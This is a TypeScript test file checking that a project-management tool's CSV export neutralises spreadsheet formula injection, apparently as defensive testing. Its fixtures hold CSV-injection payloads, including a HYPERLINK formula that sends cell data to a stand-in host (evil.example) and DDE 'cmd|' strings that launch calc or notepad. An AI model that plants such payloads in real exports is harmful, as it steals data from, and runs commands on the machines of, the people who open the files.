/**
 * Formula injection through PMT's data (issue 12, point 8): whoever may edit a
 * project or activity (PMT's application role, a data entry form) writes cells
 * a spreadsheet would run as formulas. The real worker exports them; every
 * such text cell arrives with the prefix, numbers and coordinates unchanged.
 */
import { describe, expect, it } from "vitest";
import { exportWorld, recordFault } from "../harness/faults.js";
import { parseCsv } from "../exports/csv-parse.js";

const world = exportWorld(30);

const HOSTILE = {
  projectTitle: '=HYPERLINK("http://evil.example/?d="&B2,"Details")',
  projectDescription: "@SUM(1+1)*cmd|' /C calc'!A0",
  activityTitle: "+cmd|' /C notepad'!A0",
  activityDescription: "-2+3+cmd|' /C calc'!A0",
  tabTitle: "\t=1+1",
};

describe("formula injection through PMT's data", () => {
  it("text cells a spreadsheet would run get a ' before them; numbers, dates and coordinates are left alone", async () => {
    const { rows } = await world.db.pool.query<{ project_id: number; activity_id: number }>(
      "select project_id, activity_id from pmt_jobs.filter_activities(pmt_jobs.check_filters('{}')) order by project_id, activity_id limit 2",
    );
    const [a, b] = rows;
    await world.db.pool.query("update public.project set title = $2, description = $3 where project_id = $1", [
      a!.project_id,
      HOSTILE.projectTitle,
      HOSTILE.projectDescription,
    ]);
    await world.db.pool.query("update public.activity set title = $2, description = $3 where activity_id = $1", [
      a!.activity_id,
      HOSTILE.activityTitle,
      HOSTILE.activityDescription,
    ]);
    await world.db.pool.query("update public.activity set title = $2 where activity_id = $1", [b!.activity_id, HOSTILE.tabTitle]);
    // A negative budget: a number, so no prefix.
    await world.db.pool.query("delete from public.financial where activity_id = $1", [a!.activity_id]);
    await world.db.pool.query("insert into public.financial (project_id, activity_id, amount) values ($1, $2, -1500)", [a!.project_id, a!.activity_id]);

    await world.workers.start();
    expect((await world.db.pool.query("select pmt_filter_csv('','','',null,null,'sheet@example.org') as ok")).rows[0].ok).toBe(true);
    await world.smtp.waitForMessages(1);
    const csv = parseCsv(world.smtp.messages[0]!.attachments[0]!.content.toString("utf8"));
    const cells = csv.flat();

    for (const value of Object.values(HOSTILE)) {
      expect(cells).toContain(`'${value}`);
      expect(cells).not.toContain(value);
    }
    // No cell a spreadsheet would evaluate is left, except numbers (budgets, coordinates, ids).
    const number = /^[-+]?\d+(\.\d+)?([ ,][-+]?\d+(\.\d+)?)*$/;
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !number.test(c));
    expect(live).toEqual([]);
    expect(cells.some((c) => /^-1500(\.0+)?$/.test(c))).toBe(true);
    recordFault({
      scenario: "CSV injection",
      fault: "project and activity titles/descriptions written as =HYPERLINK, @SUM, +cmd|, -2+3+cmd|, tab-=; a negative budget",
      outcome: "each hostile cell mailed with a ' before it; no cell starting =, +, -, @, tab or CR except numbers; -1500 unchanged",
      lost: 0,
    });
  });
});
